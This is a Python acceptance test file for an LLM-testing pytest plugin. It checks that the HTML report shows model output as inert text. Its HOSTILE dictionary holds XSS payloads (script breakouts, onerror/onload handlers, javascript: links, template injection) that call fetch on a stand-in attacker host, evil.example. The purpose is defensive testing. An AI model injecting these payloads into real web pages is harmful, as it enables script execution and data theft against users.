"""The report of pytest-html: prompt, answer and findings of every cell, and nothing of it is run."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.acceptance.conftest import Bench
from tests.fake_ollama import Script

RUN = "window.pwned = 1; alert(1); fetch('http://evil.example/')"
HOSTILE = {
    "script": f"</script><script>{RUN}</script>",
    "image": f'"><img src=x onerror="{RUN}">',
    "attribute": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "link": f'<a href="javascript:{RUN}">here</a>',
    "svg": f"<svg/onload={RUN.replace(' ', '')}>",
    "escaped": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "template": "{{ constructor.constructor('window.pwned = 1')() }} ${window.pwned = 1}",
    "comment": f"<!-- --><script>{RUN}</script><!-- --!><script>{RUN}</script>",
    "textarea": f"</textarea></pre></details></template><script>{RUN}</script>",
    "control": "nul \x00 bell \x07 escape \x1b[31mred\x1b[0m back \r lone \ud800 turned \u202eknil\u202c end",
    "long": "tick tock " * 100_000,
}


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page that notes under `alarms` what no report may do."""
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    shown = context.new_page()
    shown.alarms = alarms = []  # type: ignore[attr-defined]
    shown.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    shown.on("request", lambda request: request.url.startswith("http") and alarms.append(request.url))
    shown.on("pageerror", lambda error: alarms.append(str(error)))
    yield shown
    context.close()


def case(bench: Bench, name: str, text: str) -> None:
    """A case whose prompt, thinking, answer and finding are all the hostile text."""
    written = text[:2000].replace("\ud800", "?")
    prompt = f"{name}: {written}"
    bench.server.answer(prompt, Script(["The answer is ", text], ["Thinking of ", text[:2000]]))
    checks = json.dumps([{"equals": written}])
    bench.case(f"prompt: {json.dumps(prompt)}\nthink: on\nchecks: {checks}", name)


def opened(page: Page, report: Path) -> None:
    page.goto(report.as_uri())
    page.wait_for_selector(".llm-cell")
    page.click("#hide_all_details")
    page.click("#show_all_details")
    page.wait_for_selector(".llm-cell")
    page.mouse.move(300, 400)
    assert page.evaluate("window.pwned") is None
    assert page.alarms == []  # type: ignore[attr-defined]


@pytest.mark.parametrize("mode", [[], ["-n2"], ["--self-contained-html"]])
def test_nothing_that_a_model_wrote_is_run(bench: Bench, page: Page, mode: list[str]) -> None:
    bench.server.add_model("m", capabilities=["completion", "thinking"])
    for name, text in HOSTILE.items():
        case(bench, name, text)
    result = bench.process("--html=report.html", *mode)
    result.assert_outcomes(failed=len(HOSTILE))
    opened(page, bench.path / "report.html")
    shown = page.evaluate("[...document.querySelectorAll('.llm-cell pre')].map(e => e.textContent)")
    for name, text in HOSTILE.items():
        if name not in ("control", "long"):
            assert f"The answer is {text}" in shown, name
            assert f"Thinking of {text}" in shown, name
            assert f"{name}: {text}" in shown, name
    assert any("nul \\x00 bell \\x07 escape \\x1b[31mred" in text and "turned \\x202e" in text for text in shown)
    assert any(text.count("tick tock") == 100_000 for text in shown)


CHECK = """
    from pytest_llm import Finding, check

    @check("own")
    def own(artifact, context, say):
        say += " nul \\x00 lone \\ud800 turned \\u202eknil"
        context.artifacts.mkdir(parents=True)
        (context.artifacts / "note.txt").write_text("noted")
        context.attachments.append((say, context.artifacts / "note.txt"))
        yield Finding(say, say, kind=say, line=1, source=say, details=say)
    """


@pytest.mark.parametrize("mode", [[], ["-n2"]])
def test_names_and_findings_are_text_too(bench: Bench, page: Page, mode: list[str]) -> None:
    bench.file("conftest.py", CHECK)
    names = ["<script>window.pwned=1", "'onfocus='window.pwned=1'autofocus", "{{window.pwned=1}}", "<b>bold"]
    documents: list[dict[str, Any]] = [
        {"id": name, "models": "m", "prompt": "hi", "checks": [{"own": text}]}
        for name, text in zip(names, (HOSTILE[key] for key in ("script", "image", "frame", "svg")), strict=True)
    ]
    bench.file("t.prompt.yaml", "\n---\n".join(map(json.dumps, documents)))
    bench.process("--html=report.html", "--junitxml=junit.xml", *mode).assert_outcomes(failed=len(names))
    opened(page, bench.path / "report.html")
    text = page.text_content("#results-table") or ""
    for name, document in zip(names, documents, strict=True):
        assert name in text
        (said,) = (entry["own"] for entry in document["checks"])
        assert text.count(f"{said} nul \\x00 lone \\xd800 turned \\x202eknil") >= 5
    assert len(list(ET.parse(bench.path / "junit.xml").iter("testcase"))) == len(names)


def test_rows_of_cells_that_were_not_judged(bench: Bench, page: Page) -> None:
    bench.case("prompt: think of <b>it</b>\nthink: on\nchecks: [{contains: x}]", "skipped")
    bench.case("models: none\nprompt: 'ask for <b>it</b>'\nchecks: [{contains: x}]", "error")
    bench.process("--html=report.html").assert_outcomes(skipped=1, errors=1)
    opened(page, bench.path / "report.html")
    text = page.text_content("#results-table") or ""
    for words in ("think of <b>it</b>", "cannot think", "ask for <b>it</b>", "ollama pull none"):
        assert words in text, text


def test_a_person_reads_what_is_wrong(bench: Bench, page: Page) -> None:
    preface = " ".join(map(str, range(500)))
    bench.server.answer("Describe", f'{preface}\n```json\n{{"kind": 3}}\n```')
    schema = "{type: object, properties: {kind: {type: string}}}"
    bench.case(f"prompt: Describe <b>it</b>\nchecks: [{{schema: {schema}}}, {{contains: zzz}}]")
    bench.process("--html=report.html", "--self-contained-html").assert_outcomes(failed=1)
    opened(page, bench.path / "report.html")
    text = page.text_content(".llm-cell")
    for words in ("Describe <b>it</b>", '"kind": 3', "schema", "kind", "tokens/s", "zzz"):
        assert words in (text or "")
    wide = "e => e.scrollWidth > document.documentElement.clientWidth"
    assert not page.evaluate(f"[...document.querySelectorAll('.llm-cell *')].some({wide})")


KEEPS = """
    from pytest_llm import Finding, check

    @check("keeps")
    def keeps(artifact, context, word):
        print("printed by the check")
        context.artifacts.mkdir(parents=True)
        for name, text in {"page.html": artifact.answer, "a note #1.txt": "noted"}.items():
            (context.artifacts / name).write_text(text)
            context.attachments.append((name, context.artifacts / name))
        yield Finding(word, word, kind=word, line=1, source=word, details=word)
    """
PAGE = "<!doctype html><p id=p>hello</p><script>p.textContent += document.compatMode + (self.origin || '')</script>"
FETCH = "fetch('http://evil.example/').then(() => 'fetched', () => 'blocked')"


@pytest.mark.parametrize("mode", [["--self-contained-html", "-n2"], []])
def test_files_are_reached_and_nothing_is_wide_or_twice(bench: Bench, page: Page, mode: list[str]) -> None:
    bench.file("conftest.py", KEEPS)
    bench.server.answer("", PAGE)
    word = "W" * 4000
    bench.case(f"prompt: hi {word}\nchecks: [{{keeps: {{word: {word}}}}}]", "fails")
    bench.case("prompt: hi\nchecks: [{contains: x}]\nmarks: [{skip: not today}]", "skips")
    bench.process("--html=out/report.html", *mode).assert_outcomes(failed=1, skipped=1)
    opened(page, bench.path / "out/report.html")
    assert page.evaluate("document.documentElement.scrollWidth") <= 1200
    logs = page.evaluate("[...document.querySelectorAll('.log')].map(e => e.textContent)")
    assert sorted(log.strip().partition("\n")[0].partition(":")[0].strip() for log in logs) == [
        "not today",
        "whole",
    ]
    assert not any(word in log for log in logs)
    assert any("printed by the check" in log for log in logs)
    address = page.eval_on_selector(".llm-cell a", "e => e.href")
    if mode:
        assert address == "data:application/octet-stream;base64,bm90ZWQ="
    else:
        other = page.context.new_page()
        other.goto(address)
        assert other.inner_text("body") == "noted"
        other.close()
    page.click("button[data-page]")
    (frame,) = (frame for frame in page.frames if frame != page.main_frame)
    frame.wait_for_selector("#p")
    assert frame.text_content("#p") == "helloCSS1Compatnull"
    assert frame.evaluate(FETCH) == "blocked"
    assert page.alarms == []  # type: ignore[attr-defined]
